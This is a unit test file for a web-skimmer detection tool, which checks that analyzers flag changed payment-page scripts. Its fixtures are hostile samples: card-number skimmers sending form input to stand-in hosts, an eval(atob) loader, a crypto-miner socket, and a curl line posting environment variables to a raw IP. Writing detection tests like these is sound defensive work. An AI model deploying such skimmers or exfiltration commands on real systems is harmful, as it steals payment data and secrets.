// Unit: analyzers explain what changed code does, and a failing analyzer becomes a finding, not a crash.

import assert from 'node:assert/strict';
import { describe, it } from 'vitest';
import { runAnalyzers, withFindings } from '../../src/detect/analyzers/run-analyzers.js';
import { skimmerTraits } from '../../src/detect/analyzers/skimmer-traits.js';
import type { Analyzer, FindingKind, ScriptChange } from '../../src/detect/analyzers/types.js';
import { rateChange } from '../../src/detect/analyzers/rate.js';
import { isLibraryVersionChange, libraryChange } from '../../src/detect/analyzers/library-change.js';
import { knownBadHost } from '../../src/detect/analyzers/known-bad-host.js';
import type { Severity } from '../../src/capture/types.js';
import type { PlannedAlert } from '../../src/plan/plan.js';
import { emptyIntel } from '../../src/detect/intel/intel.js';

const LIB = 'window.lib = { init: function (el) { el.classList.add("ready"); } };';
const change = (newCode: string, oldCode: string | null = LIB): ScriptChange => ({
  oldCode, newCode, url: 'https://shop.example/lib.js', pageHost: 'shop.example', knownHosts: ['cdn.example'], paymentPage: true,
  oldLibrary: null, newLibrary: null, knownBad: emptyIntel().knownBad,
});
const titles = (c: ScriptChange) => skimmerTraits.run(c).map((f) => `${f.severity}: ${f.title}`);

describe('skimmer-traits analyzer', () => {
  it('calls an appended listener-and-send a skimmer', () => {
    const found = titles(change(`${LIB}\ndocument.getElementById("pay").addEventListener("mouseup", function () {\n  var x = new XMLHttpRequest(); x.open("POST", "https://baways.example/gateway/api"); x.send(JSON.stringify({ n: document.forms[0].cardnumber.value }));\n});`));
    assert.ok(found.includes('critical: reads form input and sends it out (skimmer pattern)'), found.join('\n'));
    assert.ok(found.some((t) => t.includes('references baways.example, a host not seen before')));
    assert.ok(found.some((t) => t.includes('adds mouseup on #pay listener')), found.join('\n'));
  });
  it('sees obfuscated loaders and miners', () => {
    const loader = `${LIB}\n(0, window["eval"])(atob("${Buffer.from('x'.repeat(200)).toString('base64')}"));`;
    assert.ok(titles(change(loader)).some((t) => t.startsWith('high: runs code built at run time')));
    const miner = `${LIB}\nWebAssembly.instantiate(buf); var ws = new WebSocket("wss://pool.minexmr.example:443");`;
    assert.ok(titles(change(miner)).includes('critical: shows crypto-miner traits'), titles(change(miner)).join('\n'));
  });
  it('stays quiet on a change that adds none of these traits', () => {
    assert.deepEqual(titles(change(`${LIB}\nwindow.lib.version = "2.0";`)), []);
  });
  it('finds new hosts in a hosted shell script by pattern', () => {
    const found = titles(change('#!/bin/sh\ncurl -sm 0.5 -d "$(env)" http://104.248.94.23/upload || true\n', '#!/bin/sh\ncurl https://uploads.example/\n'));
    assert.ok(found.some((t) => t.includes('104.248.94.23')), found.join('\n'));
  });
});

describe('runAnalyzers', () => {
  it('turns a throwing analyzer into an error finding and keeps the others', () => {
    const broken: Analyzer = { meta: { id: 'broken', title: 'throws', needs: [] }, run: () => { throw new Error('boom'); } };
    const findings = runAnalyzers(change(`${LIB};fetch("https://x.example/")`), [broken, skimmerTraits]);
    assert.deepEqual(findings.find((f) => f.analyzer === 'broken'), { analyzer: 'broken', severity: 'info', kind: 'error', title: 'analyzer failed', detail: 'boom' });
    assert.ok(findings.length > 1);
  });
  it('raises the alert to its worst finding and explains it in the summary', () => {
    const alert = { type: 'script.changed', severity: 'medium', summary: 'Script x changed', details: {} } as PlannedAlert;
    const enriched = withFindings(alert, [{ analyzer: 'a', severity: 'critical', kind: 'exfiltration', title: 'skimmer pattern', detail: '' }]);
    assert.equal(enriched.severity, 'critical');
    assert.equal(enriched.summary, 'Script x changed; skimmer pattern');
    assert.equal(enriched.details.changeSummary, 'Compared with the approved version, the new code: skimmer pattern.');
    assert.equal(withFindings(alert, []).severity, 'medium');
  });
});

describe('rateChange', () => {
  const finding = (severity: Severity, kind: FindingKind) => ({ analyzer: 't', severity, kind, title: `${kind}`, detail: '' });
  it('caps a recognised library upgrade at low, whatever weak traits it adds', () => {
    const weak = [finding('high', 'dynamic-code'), finding('high', 'obfuscation'), finding('medium', 'new-host')];
    assert.equal(rateChange({ base: 'high', findings: weak, libraryUpgrade: true, immutable: false }), 'low');
    assert.equal(rateChange({ base: 'low', findings: weak, libraryUpgrade: false, immutable: false }), 'high');
  });
  it('never caps strong evidence or a changed immutable URL', () => {
    for (const kind of ['exfiltration', 'known-bad', 'miner', 'lookalike', 'release-mismatch'] as const) {
      assert.equal(rateChange({ base: 'low', findings: [finding('critical', kind)], libraryUpgrade: true, immutable: false }), 'critical', kind);
    }
    assert.equal(rateChange({ base: 'critical', findings: [], libraryUpgrade: true, immutable: true }), 'critical');
  });
});

describe('library-change and known-bad-host analyzers', () => {
  const lib = (version: string, via: 'hash' | 'content' = 'content') => ({ name: 'jquery', version, via, vulnerabilities: [] });
  it('names the versions of an upgrade and flags a same-version body change', () => {
    const upgrade = libraryChange.run({ ...change('b'), oldLibrary: lib('3.6.0'), newLibrary: lib('3.7.1') });
    assert.match(upgrade[0]!.title, /upgrades jquery 3\.6\.0 → 3\.7\.1/);
    assert.equal(isLibraryVersionChange({ oldLibrary: lib('3.6.0'), newLibrary: lib('3.7.1') }), true);
    const tampered = libraryChange.run({ ...change('b'), oldLibrary: lib('3.6.0'), newLibrary: lib('3.6.0') });
    assert.equal(tampered[0]!.severity, 'medium');
    assert.match(tampered[0]!.title, /bytes changed/);
  });
  it('rates a script from or naming a known-bad host critical', () => {
    const knownBad = { hosts: new Set(['polyfill.io']), sources: [] };
    const served = knownBadHost.run({ ...change('x()'), url: 'https://cdn.polyfill.io/v3/polyfill.min.js', knownBad });
    assert.equal(served[0]!.severity, 'critical');
    const named = knownBadHost.run({ ...change(`${LIB}\nfetch("https://cdn.polyfill.io/x")`), knownBad });
    assert.equal(named.length, 1);
    assert.deepEqual(knownBadHost.run({ ...change(`${LIB}\nfetch("https://cdn.example/x")`), knownBad }), []);
  });
});

describe('lookalike hosts', () => {
  it('flags typo and brand-reuse domains of known hosts', async () => {
    const { lookalikeFindings, brandLabel } = await import('../../src/detect/analyzers/lookalike-host.js');
    assert.equal(brandLabel('cdn.britishairways.co.uk'), 'britishairways');
    assert.equal(brandLabel('shop.test:8080'), 'shop');
    assert.match(lookalikeFindings('britishairvvays.com', ['www.britishairways.com'])[0]!.title, /edit distance 2/);
    assert.match(lookalikeFindings('neweggstats.com', ['www.newegg.com'])[0]!.title, /reuses the name of known host newegg/);
    assert.match(lookalikeFindings('jquery-cdn.example', ['code.jquery.example'])[0]!.title, /reuses the name of known host jquery/);
    assert.match(lookalikeFindings('gooogle-analytics.com', ['www.google-analytics.com'])[0]!.title, /edit distance 1/);
    assert.deepEqual(lookalikeFindings('js.stripe.com', ['shop.example', 'cdn.example']), []);
  });
});

describe('large scripts: the changed span alone', () => {
  let bundle = '';
  for (let i = 0; bundle.length < 100_000; i++) bundle += `function f${i}(a){return a+${i}};`;
  bundle += 'fetch("https://api.shop.example/cart");';
  it('finds what an insertion in the middle adds, and not what was already there', () => {
    const middle = bundle.indexOf('function f500(');
    const injected = `${bundle.slice(0, middle)}document.getElementById("card-number").addEventListener("change",function(e){new Image().src="https://img-cdn-stats.example/p?d="+btoa(e.target.value)});${bundle.slice(middle)}`;
    const found = titles(change(injected, bundle));
    assert.ok(found.includes('critical: reads form input and sends it out (skimmer pattern)'), found.join('\n'));
    assert.ok(found.some((t) => t.includes('img-cdn-stats.example')));
    assert.ok(!found.some((t) => t.includes('api.shop.example')), 'a host the old version named is not new');
  });
  it('does not count an edit inside an existing call as a new send, but sees the new host', () => {
    const edited = bundle.replace('https://api.shop.example/cart', 'https://api.shop-cart-sync.example/cart');
    const found = titles(change(edited, bundle));
    // A new host with no form input in reach is worth a review (medium), not a skimmer.
    assert.ok(found.some((t) => t.startsWith('medium: may send data to api.shop-cart-sync.example')), found.join('\n'));
    assert.ok(!found.some((t) => t.includes('sends data with fetch')), found.join('\n'));
  });
});
